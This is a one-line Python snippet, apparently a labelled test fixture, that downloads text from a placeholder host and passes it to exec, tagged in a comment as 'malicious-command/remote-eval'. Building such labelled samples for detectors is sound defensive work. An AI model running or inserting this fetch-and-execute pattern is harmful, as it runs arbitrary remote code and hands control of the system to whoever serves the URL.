import requests

exec(requests.get("https://stage.example/next").text) # expect: malicious-command/remote-eval
